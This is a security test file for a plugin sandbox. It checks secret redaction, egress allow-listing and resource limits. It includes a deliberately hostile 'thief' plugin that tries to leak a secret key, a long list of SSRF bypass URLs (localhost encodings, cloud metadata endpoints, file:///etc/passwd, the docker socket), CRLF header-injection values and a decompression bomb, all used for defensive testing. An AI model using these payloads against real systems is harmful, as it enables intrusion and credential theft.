import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { gzipSync } from 'node:zlib';
import { defaultPlugin } from '../../src/config/config.ts';
import type { Json } from '../../src/wire/wire.ts';
import { codeOf, openHome, type TestHome } from './home.ts';

const secret = 'sk-Zz9/+aB3"cD4\\eF5 gH6';
/** What a server may make of what it was sent. `base64` in each of the ways it can lie between other bytes. */
const written: Record<string, (text: string) => string> = {
  plain: (t) => t,
  quoted: (t) => JSON.stringify({ t }),
  'quoted twice': (t) => JSON.stringify(JSON.stringify({ t })),
  'every character \\u': (t) => [...t].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  base64: (t) => btoa(t),
  'base64 after one': (t) => btoa(`a${t}`),
  'base64 after two': (t) => btoa(`ab${t}z`),
  base64url: (t) => Buffer.from(t).toString('base64url'),
  'base64 in lines': (t) => (btoa(t).match(/.{1,16}/g) ?? []).join('\r\n'),
  'base64 in a URL': (t) => encodeURIComponent(btoa(t)),
  hex: (t) => Buffer.from(t).toString('hex'),
  HEX: (t) => Buffer.from(t).toString('hex').toUpperCase(),
  'hex with colons': (t) => (Buffer.from(t).toString('hex').match(/../g) ?? []).join(':'),
  'URL-encoded': (t) => encodeURIComponent(t),
  'URL-encoded twice': (t) => encodeURIComponent(encodeURIComponent(t)),
  'every byte %': (t) => [...Buffer.from(t)].map((b) => `%${b.toString(16)}`).join(''),
  form: (t) => new URLSearchParams({ t }).toString(),
  'HTML entities': (t) => t.replace(/["&<>]/g, (c) => `&#${c.charCodeAt(0)};`),
  'every character &#x': (t) => [...t].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(''),
  'between others': (t) => `AAAA${t}BBBB`,
};
/** Undoes each of them, so that a text that still holds the secret in any way is found out. */
function holds(text: string): boolean {
  const forms = Object.values(written).map((write) => write(secret));
  const inner = [...forms, ...forms.map((form) => JSON.stringify(form).slice(1, -1))];
  return inner.some((form) => text.includes(form)) || text.includes(btoa(secret).slice(4, -4));
}

let server: Bun.Server<undefined>;
let home: TestHome;
const emitted: Json[] = [];
const thief = `
import { emitMessage, httpRequest, kvGetText, kvSet, log } from 'px';
const key = '{{secret:KEY}}';
const spread = (value) => {
  const text = String(value);
  log('info', text); log('error', JSON.stringify({ text })); console.log(text);
  kvSet('stolen', text);
  try { emitMessage({ id: text.slice(0, 20) + Math.random(), sender: { id: text, displayName: text }, text }); } catch {}
  return [text, kvGetText('stolen'), { [text]: [text, text.length] }];
};
export function ask(base, how, put) {
  const places = {
    header: () => httpRequest({ url: base + how, headers: { 'x-key': key } }),
    bearer: () => httpRequest({ url: base + how, headers: { authorization: 'Bearer ' + key } }),
    basic: () => httpRequest({ url: base + how, headers: { authorization: 'Basic ' + btoa('me:' + key) } }),
    query: () => httpRequest({ url: base + how + '?key=' + key }),
    path: () => httpRequest({ url: base + how + '/' + key }),
    body: () => httpRequest({ url: base + how, method: 'POST', body: key }),
    'a piece of a longer text': () => httpRequest({ url: base + how, method: 'POST', body: 'xx' + key + 'yy' + key }),
  };
  const answer = places[put]();
  return spread([answer.status, JSON.stringify(answer.headers), answer.text()].join(' '));
}
export function raise(base) { throw new Error(httpRequest({ url: base + 'plain', headers: { 'x-key': key } }).text()); }
export function turned(base) {
  // A server that helps can turn it round; what the guest makes of it is found out on its way on.
  const text = httpRequest({ url: base + 'reversed', headers: { 'x-key': key } }).text();
  return spread([...text].reverse().join(''));
}
export function turnedError(base) { throw new Error([...httpRequest({ url: base + 'reversed', headers: { 'x-key': key } }).text()].reverse().join('')); }
export function look() { return [key, String(key).length]; }
`;

beforeAll(async () => {
  server = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    async fetch(request) {
      const url = new URL(request.url);
      const how = decodeURIComponent(url.pathname.split('/')[1] ?? '');
      const [, basic] = /^Basic (.*)$/.exec(request.headers.get('authorization') ?? '') ?? [];
      const got = [
        request.headers.get('x-key'),
        request.headers.get('authorization'),
        basic && atob(basic),
        url.searchParams.get('key'),
        decodeURIComponent(url.pathname.split('/').slice(2).join('/')),
        await request.text(),
      ]
        .filter(Boolean)
        .join(' ');
      if (how === 'reversed') return new Response([...got].reverse().join(''));
      const text = written[how]?.(got) ?? '';
      const headers = { 'x-got': encodeURIComponent(text), 'set-cookie': `got=${encodeURIComponent(text)}` };
      return new Response(gzipSync(text), { headers: { ...headers, 'content-encoding': 'gzip' } });
    },
  });
  const base = `http://127.0.0.1:${server.port}/`;
  home = await openHome(
    {
      plugins: {
        thief: {
          grants: {
            egress: [`* ${base}`],
            private_hosts: [`127.0.0.1:${server.port}`],
            secrets: { KEY: [base] },
          },
          limits: { http_per_minute: 10_000, log_per_minute: 10_000 },
        },
      },
    },
    { emit: (_, message) => emitted.push(message) > 0 },
  );
  home.secrets.set('KEY', secret);
  await home.plugins.add(home.file('thief.js', thief));
});
afterAll(async () => {
  await server.stop(true);
  await home[Symbol.asyncDispose]();
});

/** Every place where something of a plugin ends up. */
function everything(result: unknown): string {
  const { logged, events } = home;
  return JSON.stringify({
    result,
    emitted,
    logged,
    events,
    logs: home.plugins.logs('thief'),
    list: home.plugins.list(),
  });
}

describe('a plugin that may send a secret never has it', () => {
  test('whatever way a server sends it back, it is in no result, log, event, message or store', async () => {
    const base = `http://127.0.0.1:${server.port}/`;
    for (const how of Object.keys(written))
      for (const put of ['header', 'bearer', 'basic', 'query', 'path', 'body', 'a piece of a longer text']) {
        const result = await home.plugins.call('thief', 'ask', [base, encodeURIComponent(how), put]);
        expect([how, put, holds(JSON.stringify(result))]).toEqual([how, put, false]);
        expect(JSON.stringify(result)).toContain('[redacted:KEY]');
      }
    expect(holds(everything(null))).toBe(false);
    expect(emitted.length).toBeGreaterThan(10);
  });

  test('nor does it come out in an error, or after the guest has put it together itself', async () => {
    const base = `http://127.0.0.1:${server.port}/`;
    expect(await codeOf(home.plugins.call('thief', 'raise', [base]))).toBe('plugin.guest');
    const result = await home.plugins.call('thief', 'turned', [base]);
    expect(holds(JSON.stringify(result))).toBe(false);
    const error = await home.plugins.call('thief', 'turnedError', [base]).catch((e: unknown) => e);
    expect(holds(String(error) + JSON.stringify(error))).toBe(false);
    expect(holds(everything(null))).toBe(false);
  });

  test('and sees its placeholder only', async () => {
    expect(await home.plugins.call('thief', 'look', [])).toEqual(['{{secret:KEY}}', 14]);
  });
});

describe('a plugin that may ask one host', () => {
  test('reaches no other place by any way of writing it', async () => {
    const port = server.port;
    const other = Bun.serve({ port: 0, hostname: '127.0.0.1', fetch: () => new Response('reached') });
    const probe = `
      import { httpRequest } from 'px';
      export function go(url, headers) { try { return 'reached ' + httpRequest({ url, headers }).status; } catch (e) { return (e.kind ?? '') + ' ' + e; } }`;
    await using fenced = await openHome(
      {
        plugins: {
          probe: {
            grants: { egress: ['GET https://api.example.com/v1/', `GET http://api.example.com:${other.port}/v1/`] },
          },
          wide: { grants: { egress: [`* http://*:${other.port}/`, '* https://*/'] } },
        },
      },
      { resolve: async (host) => (host === 'api.example.com' ? ['127.0.0.1'] : ['127.0.0.1', '93.184.216.34']) },
    );
    await fenced.plugins.add(fenced.file('probe.js', probe));
    await fenced.plugins.add(fenced.file('probe.js', probe), { name: 'wide' });
    const p = other.port;
    const urls = [
      `http://127.0.0.1:${p}/`,
      `http://localhost:${p}/`,
      `http://2130706433:${p}/`,
      `http://0x7f000001:${p}/`,
      `http://0x7f.1:${p}/`,
      `http://017700000001:${p}/`,
      `http://0177.0.0.1:${p}/`,
      `http://127.1:${p}/`,
      `http://0:${p}/`,
      `http://[::1]:${p}/`,
      `http://[::ffff:127.0.0.1]:${p}/`,
      `http://[::ffff:7f00:1]:${p}/`,
      `http://[::127.0.0.1]:${p}/`,
      `http://[64:ff9b::7f00:1]:${p}/`,
      `http://[2002:7f00:1::]:${p}/`,
      `http://[fe80::1%25lo]:${p}/`,
      `http://１２７.０.０.１:${p}/`,
      `http://①②⑦.0.0.1:${p}/`,
      `http://127。0。0。1:${p}/`,
      `http://api.example.com@127.0.0.1:${p}/v1/`,
      `http://api.example.com:${p}@127.0.0.1:${p}/v1/`,
      `http://127.0.0.1:${p}#@api.example.com/v1/`,
      `http://127.0.0.1:${p}\\@api.example.com/v1/`,
      `http:\\\\127.0.0.1:${p}/`,
      `http:///127.0.0.1:${p}/`,
      `//127.0.0.1:${p}/`,
      `http://аpi.example.com:${p}/v1/`,
      `http://api.example.com.evil.org:${p}/v1/`,
      `http://api.example.com.:${p}/v1/`,
      `http://api。example。com.:${p}/v1/`,
      `http://api.example.com:${p}/v1/`,
      `http://api.example.com:${p}/v1/../admin`,
      `http://api.example.com:${p}/v1/%2e%2e/admin`,
      `http://api.example.com:${p}/v1/..%2fadmin`,
      `http://api.example.com:${p}/v1/..%5cadmin`,
      `http://api.example.com:${port}/v1/`,
      `http://169.254.169.254/latest/meta-data/`,
      `https://169.254.169.254/latest/`,
      `https://metadata.google.internal/`,
      `file:///etc/passwd`,
      `data:text/plain,x`,
      `blob:http://127.0.0.1/x`,
      `unix:///var/run/docker.sock`,
      `ftp://127.0.0.1/`,
      `gopher://127.0.0.1:${p}/_x`,
    ];
    for (const name of ['probe', 'wide'])
      for (const url of urls) {
        const said = String(await fenced.plugins.call(name, 'go', [url, {}]));
        expect([name, url, said.includes('reached')]).toEqual([name, url, false]);
        expect([name, url, /denied|network|URL/.test(said)]).toEqual([name, url, true]);
      }
    for (const headers of [
      { host: `127.0.0.1:${p}` },
      { 'x-a': 'b\r\nHost: 127.0.0.1' },
      { 'x-a': 'b\nc' },
      { 'x\r\nhost': 'a' },
      { 'x-a': 'b\0' },
      { connection: 'upgrade' },
      { 'transfer-encoding': 'chunked' },
      { 'proxy-authorization': 'x' },
      { 'x-a': 'é\u2028' },
    ])
      expect(String(await fenced.plugins.call('wide', 'go', [`https://api.example.com/`, headers]))).toMatch(
        /denied|header|network|invalid/i,
      );
    await other.stop(true);
  });

  test('is not held up by an answer that comes a byte at a time, has no end, or unpacks without end', async () => {
    let hits = 0;
    const slow = Bun.serve({
      port: 0,
      hostname: '127.0.0.1',
      idleTimeout: 30,
      fetch(request) {
        const path = new URL(request.url).pathname;
        hits++;
        if (path === '/bomb') {
          const once = gzipSync(Buffer.alloc(5_000_000));
          return new Response(gzipSync(once), { headers: { 'content-encoding': 'gzip, gzip' } });
        }
        if (path === '/brotli') return new Response('x', { headers: { 'content-encoding': 'br' } });
        if (path === '/lie') return new Response('short', { headers: { 'content-length': '99999999' } });
        return new Response(
          new ReadableStream({
            async pull(controller) {
              if (path === '/drip') await Bun.sleep(50);
              controller.enqueue(new Uint8Array(path === '/drip' ? 1 : 65_536));
            },
          }),
        );
      },
    });
    const base = `http://127.0.0.1:${slow.port}`;
    await using fenced = await openHome({
      plugins: {
        probe: {
          grants: { egress: [`GET ${base}/`], private_hosts: [`127.0.0.1:${slow.port}`] },
          limits: { http_bytes: 100_000, http_per_minute: 20 },
        },
      },
    });
    await fenced.plugins.add(
      fenced.file(
        'probe.js',
        `import { httpRequest, kvSet } from 'px';
         export function go(url, timeoutMs) { try { return httpRequest({ url, timeoutMs }).text().length; } catch (e) { return (e.kind ?? '') + ' ' + e; } }
         export function flood(url) { let no = 0; for (let i = 0; i < 2000; i++) { try { httpRequest({ url }); } catch { no++; } } return no; }
         export function fill() { let n = 0; try { for (;;) { kvSet('k' + n, 'x'.repeat(20000)); n++; } } catch (e) { return [n, String(e)]; } }`,
      ),
    );
    const begun = performance.now();
    expect(String(await fenced.plugins.call('probe', 'go', [`${base}/drip`, 400]))).toContain('timeout');
    expect(performance.now() - begun).toBeLessThan(3000);
    for (const path of ['/endless', '/bomb', '/brotli'])
      expect([path, String(await fenced.plugins.call('probe', 'go', [`${base}${path}`, 5000]))]).toEqual([
        path,
        expect.stringMatching(/too-large|network/),
      ]);
    expect(await fenced.plugins.call('probe', 'flood', [`${base}/brotli`])).toBe(2000);
    // Of all these requests those were let through that a minute may have.
    expect(hits).toBe(20);
    expect(fenced.events.filter((event) => event.type === 'plugin.denied').length).toBeLessThan(70);
    const [stored, said] = (await fenced.plugins.call('probe', 'fill', [])) as [number, string];
    expect(stored).toBeLessThan(defaultPlugin().limits.kv_bytes / 20_000);
    expect(said).toContain('quota');
    await slow.stop(true);
  }, 20_000);
});
